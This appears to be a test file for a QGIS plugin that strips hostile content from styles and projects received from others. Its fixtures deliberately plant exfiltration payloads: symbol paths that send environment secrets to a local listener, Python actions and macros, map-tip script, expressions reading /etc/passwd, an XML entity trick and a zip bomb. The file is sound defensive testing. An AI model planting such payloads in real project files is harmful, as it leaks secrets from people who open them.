"""Styles and projects of others are data: they neither act, nor ask other computers, nor tell of this one."""

import html
import os
import shutil
import zipfile
from pathlib import Path

import pytest
from opgavenkaart.processing.cartography import project_layers
from opgavenkaart.processing.cartography.live_layers import open_live
from opgavenkaart.processing.cartography.plain_looks import clean_looks, clean_value, is_own
from opgavenkaart.processing.cartography.project import LayerEntry, make_project, save_project
from opgavenkaart.processing.cartography.project_copy import read_project
from opgavenkaart.processing.cartography.project_sources import is_foreign
from opgavenkaart.processing.cartography.rendering import png_of
from opgavenkaart.processing.cartography.styles import SYMBOLS_AND_LABELS
from opgavenkaart.processing.cartography.theme import theme
from opgavenkaart.processing.model.errors import OpgaveError
from opgavenkaart.processing.model.files import file_hash, read_json, write_json
from opgavenkaart.processing.model.trust import Trust, keep_decisions, trusting
from opgavenkaart.processing.products.layer_package import live_entry
from opgavenkaart.processing.qgis_io import project_text
from opgavenkaart.processing.qgis_io.opening import open_ogr_layer
from opgavenkaart.processing.sources.trust import use_decisions
from opgavenkaart.processing.sources.watch.project_file import read_project as read_for_repair
from opgavenkaart.processing.texts.language import Language
from opgavenkaart.test.support import servers
from opgavenkaart.test.support.layers import Heard, memory_layer, record
from opgavenkaart.test.support.running import run_algorithm
from opgavenkaart.test.support.servers_replay import Answer, replay
from opgavenkaart.test.support.six_units import CLUSTERED, TWO, six_units
from qgis.core import (
    QgsAction,
    QgsCentroidFillSymbolLayer,
    QgsCoordinateTransformContext,
    QgsExpression,
    QgsFillSymbol,
    QgsMarkerSymbol,
    QgsPalLayerSettings,
    QgsProject,
    QgsProperty,
    QgsReadWriteContext,
    QgsRectangle,
    QgsRuleBasedRenderer,
    QgsSingleSymbolRenderer,
    QgsSvgMarkerSymbolLayer,
    QgsSymbolLayer,
    QgsVectorFileWriter,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
)
from qgis.PyQt.QtXml import QDomDocument

SVG = b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10'/></svg>"
SLD = """<StyledLayerDescriptor xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc" xmlns:xlink="http://www.w3.org/1999/xlink">
<NamedLayer><UserStyle><FeatureTypeStyle><Rule><PointSymbolizer><Graphic>{mark}<Size>20</Size></Graphic></PointSymbolizer></Rule><Rule>
<ogc:Filter><ogc:PropertyIsEqualTo><ogc:Function name="env"><ogc:Literal>TOPSECRET</ogc:Literal></ogc:Function><ogc:Literal>x</ogc:Literal>
</ogc:PropertyIsEqualTo></ogc:Filter><PointSymbolizer><Graphic><Mark><WellKnownName>circle</WellKnownName></Mark></Graphic></PointSymbolizer>
</Rule></FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>"""
NOBODY = "http://127.0.0.1:9"
REMOTE = "<ExternalGraphic><OnlineResource xlink:href='{url}/t.svg'/><Format>image/svg+xml</Format></ExternalGraphic>"


@pytest.fixture
def points(qgis_app, tmp_path):
    """A file of three points, whose codes are texts."""
    made = memory_layer("Point", [(f"POINT ({n} {n})", f"c{n}") for n in range(3)], "code:string")
    options = QgsVectorFileWriter.SaveVectorOptions()
    options.layerName = "points"
    QgsVectorFileWriter.writeAsVectorFormatV3(made, str(tmp_path / "points.gpkg"), made.transformContext(), options)
    return f"{tmp_path / 'points.gpkg'}|layername=points"


@pytest.fixture
def listener(monkeypatch):
    monkeypatch.setitem(os.environ, "TOPSECRET", "zeer-geheim")
    with replay({}) as server:
        asked = []
        server.answer = lambda path, query, headers: asked.append(path) or Answer(SVG, "image/svg+xml")
        server.asked = asked
        yield server


def dress(layer: QgsVectorLayer, url: str) -> None:
    """Give a layer looks that act, ask a server and tell it variables of the environment."""
    leak = QgsSvgMarkerSymbolLayer("arrows/Arrow_01.svg")
    leak.setDataDefinedProperty(QgsSymbolLayer.Property.PropertyName, QgsProperty.fromExpression(f"'{url}/leak/' || env('TOPSECRET')"))
    fetch = QgsSvgMarkerSymbolLayer(f"{url}/plain.svg")
    layer.setRenderer(QgsSingleSymbolRenderer(QgsMarkerSymbol([leak, fetch])))
    settings = QgsPalLayerSettings()
    settings.fieldName, settings.isExpression = "env('TOPSECRET') || @user_account_name", True
    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
    layer.setLabelsEnabled(True)
    layer.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, "PWNED_ACTION", "import os"))
    form = layer.editFormConfig()
    form.setInitCode("PWNED_FORM = 1")
    form.setInitFunction("my_form_open")
    layer.setEditFormConfig(form)
    layer.setMapTipTemplate("PWNED_TIP<script>1</script>[% env('TOPSECRET') %]")
    layer.setCustomProperty("PWNED_PROPERTY", "x")


def looks_of(layer) -> str:
    """Return symbols and labels of a layer as QGIS writes them."""
    document = QDomDocument()
    layer.exportNamedStyle(document, QgsReadWriteContext(), SYMBOLS_AND_LABELS)
    return document.toString(1)


def draw(layers, crs) -> bytes:
    return png_of(layers, crs, QgsRectangle(-1, -1, 3, 3), 60, 60)


def test_a_record_s_style_brings_looks_and_nothing_else(points, listener, tmp_path):
    source = QgsVectorLayer(points, "x", "ogr")
    dress(source, NOBODY)  # QGIS asks for a symbol's picture when it is made, in its own time
    style = tmp_path / "own.qml"
    source.saveNamedStyle(str(style))
    style.write_text(style.read_text(encoding="utf-8").replace(NOBODY, listener.url), encoding="utf-8")
    assert listener.url in style.read_text(encoding="utf-8")
    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.qml"))
    heard = Heard()
    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"), progress=heard)
    (layer,) = project.mapLayers().values()
    draw([layer], project.crs())
    told = [text.partition(": ")[2].partition(" in the style 'own.qml' are left out")[0] for text in heard.warnings]
    away = "Pictures from elsewhere and expressions that ask for more than the drawn feature"
    assert told == ["Actions", away, "Code of forms", "Map tips"]
    save_project(project, tmp_path / "x.qgz")
    written = zipfile.ZipFile(tmp_path / "x.qgz").read("x.qgs").decode()
    assert listener.asked == []
    assert [word for word in ("PWNED", "TOPSECRET", listener.url, "my_form_open", "user_account_name") if word in written] == []
    assert layer.renderer().symbol().symbolLayerCount() == 2  # what can be drawn of it is
    project.clear()


def test_nor_does_one_that_a_file_or_database_brings(points, tmp_path):
    """QGIS takes what stands as default in a file's own table of styles, or beside it."""
    layer = QgsVectorLayer(points, "points", "ogr")
    dress(layer, NOBODY)
    layer.saveStyleToDatabase("default", "", True, "")
    assert layer.saveNamedStyle(str(tmp_path / "beside.qml"))[1]
    shutil.copy(tmp_path / "points.gpkg", tmp_path / "beside.gpkg")
    for source in (points, f"{tmp_path / 'beside.gpkg'}|layername=points"):
        brought = QgsVectorLayer(source, "x", "ogr")
        assert [one.name() for one in brought.actions().actions()] == ["PWNED_ACTION"]
        assert open_ogr_layer(source, "x").actions().actions() == []
        project = make_project([LayerEntry("x", "", "x", source)], "EPSG:31370", "x", theme(), Language("en"))
        (drawn,) = project.mapLayers().values()
        draw([drawn], project.crs())
        save_project(project, tmp_path / "x.qgz")
        written = zipfile.ZipFile(tmp_path / "x.qgz").read("x.qgs").decode()
        assert [word for word in ("PWNED", "TOPSECRET", NOBODY, "my_form_open") if word in written] == []
        assert drawn.renderer().symbol().symbolLayerCount() == 2  # what can be drawn of it is
        project.clear()


def test_an_honest_style_stays_as_it_is(points, tmp_path):
    """Rules, scales, labels and symbols of QGIS that look at the features only are taken letter for letter."""
    layer = QgsVectorLayer(points, "x", "ogr")
    symbol = QgsMarkerSymbol([QgsSvgMarkerSymbolLayer("arrows/Arrow_01.svg")])
    symbol.setDataDefinedSize(QgsProperty.fromExpression('scale_linear(length("code"), 0, 9, 1, 5) * if(@map_scale > 5000, 1, 2)'))
    rules = QgsRuleBasedRenderer(symbol)
    rules.rootRule().children()[0].setFilterExpression("\"code\" LIKE 'c%' AND $id > 1")
    layer.setRenderer(rules)
    settings = QgsPalLayerSettings()
    settings.fieldName, settings.isExpression = "upper(\"code\") || ' (' || round($x, 1) || ')'", True
    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
    layer.setLabelsEnabled(True)
    layer.saveNamedStyle(str(tmp_path / "own.qml"))
    text, changed = clean_looks((tmp_path / "own.qml").read_text(encoding="utf-8"), "own.qml")
    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.qml"))
    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"))
    (taken,) = project.mapLayers().values()
    assert not changed and taken.labeling().settings().fieldName == settings.fieldName
    assert looks_of(taken) == looks_of(layer)
    project.clear()


@pytest.mark.parametrize("mark", [REMOTE, "<Mark><WellKnownName>star</WellKnownName></Mark>"])
def test_an_sld_asks_no_server_and_no_environment(points, listener, tmp_path, mark):
    (tmp_path / "own.sld").write_text(SLD.format(mark=mark.format(url=listener.url)))
    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.sld"))
    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"))
    (layer,) = project.mapLayers().values()
    draw([layer], project.crs())
    assert listener.asked == []
    assert len(layer.renderer().rootRule().children()) == 2
    assert "env" not in layer.renderer().dump()
    project.clear()


@pytest.mark.parametrize(
    "text",
    [
        "env('A')",
        "eval('en' || 'v(''A'')')",
        "@user_account_name",
        "@project_folder",
        "@qgis_os_name",
        "var('user_' || 'account_name')",
        "layer_property('x', 'path')",
        "aggregate('x', 'concatenate', \"a\")",
        "coalesce(1, array_foreach(array(1), env('A')))",
        "CASE WHEN true THEN file_exists('/etc/passwd') END",
        "overlay_nearest('x', $id)",
        "load_layer('/etc/passwd', 'ogr')",
        "sqlite_fetch_and_increment('/x.gpkg', 'a', 'b', 'c', map())",
    ],
)
def test_an_expression_that_looks_further_than_the_feature_gives_nothing(qgis_app, text):
    assert not QgsExpression(text).hasParserError() and not is_own(text)
    assert clean_value(text.replace("'", "&apos;")) == "NULL"
    assert clean_value(f"a [% {text} %] b") == "a  b"


def test_a_style_with_entities_or_gigabytes_is_refused(qgis_app, tmp_path, monkeypatch):
    with pytest.raises(OpgaveError, match="cannot be read as a style or project"):
        clean_looks('<!DOCTYPE qgis [<!ENTITY x "env(\'A\')">]><qgis a="&x;"/>', "own.qml")
    monkeypatch.setattr(project_text, "MOST_BYTES", 1 << 20)
    with zipfile.ZipFile(tmp_path / "bomb.qgz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.qgs", b"<qgis>" + b" " * (2 << 20) + b"</qgis>")
    (tmp_path / "own.qml").write_bytes(b" " * (2 << 20))
    transforms = QgsCoordinateTransformContext()
    for read in (read_project, read_for_repair, lambda path: list(project_layers.project_layers(path, transforms))):
        with pytest.raises(OpgaveError, match="unpacks to more than 1 MB, and is not opened"):
            read(tmp_path / "bomb.qgz")
    with pytest.raises(OpgaveError, match="more than 1 MB"):
        project_text.read_style(tmp_path / "own.qml")


@pytest.fixture(scope="module")
def bundle(qgis_app, qgis_processing, tmp_path_factory):
    """A bundle of a town of six units."""
    folder = tmp_path_factory.mktemp("bundle")
    town = six_units(folder)
    inputs = town.write(town.challenge(*TWO, **CLUSTERED))
    run_algorithm("integrated_map", {**inputs, "OUTPUT_FOLDER": str(folder / "out"), "LANGUAGE": "en"})
    return folder / "out"


def test_our_own_project_is_drawn_as_it_is(bundle):
    """Nothing is taken from what this plugin makes."""
    text = zipfile.ZipFile(bundle / "small_town.qgz").read("small_town.qgs").decode()
    assert clean_looks(text, "small_town.qgz")[1] == frozenset()
    found = []
    for of_bundle in (False, True):
        project = read_project(bundle / "small_town.qgz", of_bundle)
        layers = project.layerTreeRoot().layerOrder()
        assert all(layer.isValid() for layer in layers)
        found.append([looks_of(layer) for layer in layers])
        project.clear()
    assert found[0] == found[1] and len(found[0]) > 3


def test_a_mailed_bundle_s_project_neither_asks_nor_acts(bundle, listener, tmp_path):
    """Its looks ask a server, and tell it the environment: the atlas is made of a cleaned copy."""
    project = QgsProject()
    project.read(str(bundle / "small_town.qgz"))
    for layer in project.mapLayers().values():
        if isinstance(layer, QgsVectorLayer) and layer.isSpatial():
            dress(layer, listener.url)
            if layer.geometryType().name == "Polygon":
                centre = QgsCentroidFillSymbolLayer()
                leak = QgsSvgMarkerSymbolLayer(f"{listener.url}/plain.svg")
                centre.setSubSymbol(QgsMarkerSymbol([leak]))
                layer.setRenderer(QgsSingleSymbolRenderer(QgsFillSymbol([centre])))
    project.writeEntry("Macros", "/pythonCode", "PWNED_MACRO")
    project.write(str(bundle / "small_town.qgz"))
    project.clear()
    listener.asked.clear()
    text = zipfile.ZipFile(bundle / "small_town.qgz").read("small_town.qgs").decode()
    assert "PWNED_MACRO" in text and "PWNED_ACTION" in text and listener.url in text
    clean, changed = clean_looks(text, "small_town.qgz")
    assert changed == {"action", "form", "tip", "macro", "elsewhere"}
    assert not [word for word in ("PWNED_M", "PWNED_A", "PWNED_F", "PWNED_T", "TOPSECRET", f'"{listener.url}') if word in clean]
    made = run_algorithm(
        "export_atlas",
        {
            "BUNDLE": str(bundle),
            "CLUSTERS": f"{bundle}/small_town.gpkg|layername=clusters",
            "FORMAT": "png",
            "OUTPUT_FOLDER": str(tmp_path / "atlas"),
        },
    )
    assert made["PAGE_COUNT"] >= 1 and listener.asked == []
    run_algorithm("export_map", {"PROJECT": str(bundle / "small_town.qgz"), "FORMAT": "png", "OUTPUT": str(tmp_path / "map.png")})
    assert Path(tmp_path / "map.png").stat().st_size > 0 and listener.asked == []


AWAY = {
    "ogr": "/vsicurl_streaming/{url}/a.csv",
    "gdal": "/vsicurl_streaming/{url}/a.tif",
    "WFS": "url='{url}/wfs' typename='a' version='2.0.0'",
    "OAPIF": "url='{url}/oapif' typename='a'",
    "wms": "crs=EPSG:3857&format=image/png&layers=a&styles=&url={url}/wms",
    "arcgisfeatureserver": "crs='EPSG:3857' url='{url}/arcgis/0'",
    "ept": "{url}/ept.json",
    "virtual": "?layer=ogr:/etc/hostname:b:UTF-8&query=select * from b",
    "delimitedtext": "file:///etc/passwd?type=csv&delimiter=:",
    "postgres": "host=127.0.0.1 port={port} dbname='x' table=\"a\"",
}
"""Where the layers of a hostile project lie, by the provider that opens them."""
KIND = {"gdal": "raster", "wms": "raster", "ept": "point-cloud"}


@pytest.fixture
def mailed_project(bundle, listener, tmp_path):
    """Return the project of a bundle that came by mail, with these layers on top of its own."""
    port = listener.url.rpartition(":")[2]

    def write(sources: dict[str, str]) -> Path:
        shutil.copytree(bundle, tmp_path / "mail")
        path = tmp_path / "mail" / "small_town.qgz"
        text = zipfile.ZipFile(path).read("small_town.qgs").decode()
        parts, entries = "", ""
        for provider, source in sources.items():
            datasource = html.escape(source.format(url=listener.url, port=port))
            kind = KIND.get(provider, "vector")
            parts += f"<maplayer type='{kind}' geometry='Point'><id>away_{provider}</id><datasource>{datasource}</datasource>"
            parts += f"<layername>away {provider}</layername><provider>{provider}</provider></maplayer>"
            entries += f"<layer-tree-layer id='away_{provider}' name='a' checked='Qt::Checked'/>"
        text = text.replace("</projectlayers>", f"{parts}</projectlayers>")
        tree = text.index("<layer-tree-group") if "<layer-tree-group>" not in text else text.index("<layer-tree-group>")
        tree = text.index(">", tree) + 1
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("small_town.qgs", text[:tree] + entries + text[tree:])
        return path

    keep_decisions(Trust, lambda: tmp_path / "profile")
    yield write
    use_decisions()


def test_layers_of_a_mailed_project_lie_beside_it_or_at_public_servers(mailed_project, listener):
    """Neither a server inside the network, nor a file elsewhere, nor GDAL past QGIS's network; each that is left out is told."""
    path, heard = mailed_project(AWAY), Heard()
    project = read_project(path, of_bundle=True, progress=heard)
    assert listener.asked == []
    assert len(project.mapLayers()) > 3 and all(layer.isValid() for layer in project.mapLayers().values())
    assert not [id for id in project.mapLayers() if id.startswith("away_")]
    (told,) = [text for text in heard.warnings if "made elsewhere" in text]
    assert all(f"away {provider}" in told for provider in AWAY)
    project.clear()
    layers = list(project_layers.project_layers(path, QgsCoordinateTransformContext()))
    assert len(layers) > 3 and listener.asked == [] and not [layer for layer, _ in layers if layer.name().startswith("away")]


def test_a_map_that_was_made_here_keeps_its_layers_inside(mailed_project, listener):
    """Of its own manifest, and as it was made; a manifest of one's own beside another project is no acceptance of that."""
    path = mailed_project({"WFS": AWAY["WFS"]})
    manifest = path.parent / "manifest.json"
    sha = file_hash(manifest)
    with trusting(Trust(hashes=frozenset([sha]))):
        assert is_foreign(path)
        document = read_json(manifest)
        document["files"][path.name]["sha256"] = file_hash(path)
        write_json(manifest, document)
        assert is_foreign(path)
    with trusting(Trust(hashes=frozenset([file_hash(manifest)]))):
        assert not is_foreign(path)
        read_project(path, of_bundle=True).clear()
    assert listener.asked


def test_nor_does_one_that_stands_in_the_database_of_a_layer_that_stays_there(qgis_app, listener, tmp_path):
    """Whoever may write the database's table of styles puts there what QGIS would take as default."""
    with servers.postgis() as database:
        auth = database.connect("stad")
        try:
            geometry = "geom geometry(Point, 4326) DEFAULT 'SRID=4326;POINT(1 1)'"
            database.run(
                f"CREATE TABLE public.points (id serial PRIMARY KEY, code text, {geometry}); INSERT INTO points (code) VALUES ('a')"
            )
            kept = record("postgis", "stad", "public.points", redistribution="yes")
            plain = QgsVectorLayer(open_live(kept).source, "points", "postgres")
            dress(plain, NOBODY)
            plain.saveStyleToDatabase("default", "", True, "")
            database.run(f"UPDATE layer_styles SET styleqml = replace(styleqml::text, '{NOBODY}', '{listener.url}')::xml")
            live = open_live(kept)
            project = make_project([live_entry(live, Language("en"))], "EPSG:4326", "x", theme(), Language("en"))
            (layer,) = project.mapLayers().values()
            draw([layer], project.crs())
            save_project(project, tmp_path / "x.qgz")
            written = zipfile.ZipFile(tmp_path / "x.qgz").read("x.qgs").decode()
            assert [word for word in ("PWNED", "TOPSECRET", listener.url, "my_form_open", "user_account_name") if word in written] == []
            assert listener.asked == []
            project.clear()
            assert QgsVectorLayer(plain.source(), "x", "postgres").renderer().symbol().symbolLayerCount() == 2  # QGIS itself takes it
        finally:
            database.forget("stad", auth)
